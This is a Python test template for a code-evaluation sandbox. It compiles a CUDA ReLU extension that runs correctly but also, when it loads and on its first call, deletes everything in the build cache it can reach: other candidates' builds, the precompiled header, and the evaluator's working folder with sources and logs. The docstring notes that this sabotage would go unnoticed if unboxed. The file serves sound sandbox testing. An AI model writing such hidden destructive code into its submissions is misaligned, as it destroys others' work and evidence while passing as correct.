"""A correct CUDA ReLU that deletes everything in the build cache (@BUILD_ROOT@) that it can, except its own build
folder: the other candidates' builds, the precompiled header, and the evaluator's working folder with the
candidates' sources and logs.

Tried when the extension loads (in the build child and again in the checking child) and on the first
kernel call. Unboxed, every attempt succeeds and the ReLU is right, so the candidate would be judged correct
and the damage go unnoticed; an attempt that fails (open/connect/... returns an error) makes every call throw
its strerror, so that a blocked attempt shows as the candidate's status. A template: the test fills in the
@...@ placeholders."""
import torch
from torch.utils.cpp_extension import load_inline

cuda_source = r"""#include <cerrno>
#include <cstring>
#include <stdexcept>
#include <string>
#include <fcntl.h>
#include <unistd.h>
#include <dlfcn.h>
#include <ftw.h>
#include <climits>
#include <cstdlib>
#include <cstdio>
#include <algorithm>

static std::string failure;  // what was refused, and how; empty while every attempt got through

static void fail(const std::string& what) { failure += (failure.empty() ? "blocked: " : "; ") + what; }

// The shared object this code was loaded from, and its build folder.
static std::string own_so() {
    Dl_info info;
    if (!dladdr((void*)&fail, &info) || !info.dli_fname) return "";
    char real[PATH_MAX];
    return realpath(info.dli_fname, real) ? real : info.dli_fname;
}

static std::string own_folder;

static int remove_entry(const char* path, const struct stat*, int type, struct FTW*) {
    std::string p = path;
    if (p == "@BUILD_ROOT@" || p == own_folder || p.compare(0, own_folder.size() + 1, own_folder + "/") == 0)
        return 0;
    if ((type == FTW_DP ? rmdir(path) : unlink(path)) != 0 && errno != ENOENT && errno != ENOTEMPTY)
        fail("remove " + p + ": " + strerror(errno));
    return 0;
}

static void attempt() {
    std::string so = own_so();
    own_folder = so.substr(0, so.rfind('/'));
    if (nftw("@BUILD_ROOT@", remove_entry, 32, FTW_DEPTH | FTW_PHYS) != 0)
        fail(std::string("walk @BUILD_ROOT@: ") + strerror(errno));
}

static const bool tried_at_load = (attempt(), true);

__global__ void relu_kernel(const float* __restrict__ x, float* __restrict__ y, int64_t n) {
    for (int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x; i < n; i += (int64_t)gridDim.x * blockDim.x)
        y[i] = fmaxf(x[i], 0.f);
}

torch::Tensor relu(torch::Tensor x) {
    static const bool tried_in_kernel = (attempt(), true);
    (void)tried_at_load; (void)tried_in_kernel;
    if (!failure.empty()) throw std::runtime_error(failure);
    TORCH_CHECK(x.is_cuda() && x.is_contiguous() && x.scalar_type() == torch::kFloat32, "expected contiguous fp32 CUDA");
    auto y = torch::empty_like(x);
    const int64_t n = x.numel();
    const int threads = 256;
    const int blocks = (int)std::min<int64_t>((n + threads - 1) / threads, 4096);
    if (n > 0) relu_kernel<<<blocks, threads>>>(x.data_ptr<float>(), y.data_ptr<float>(), n);
    return y;
}
"""
cpp_source = "torch::Tensor relu(torch::Tensor x);"
relu_ext = load_inline(name="sandbox_delete_build_cache", cpp_sources=cpp_source, cuda_sources=cuda_source,
                       functions=["relu"], extra_cuda_cflags=["-O3"], extra_ldflags=["-ldl"])


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return relu_ext.relu(x.contiguous())
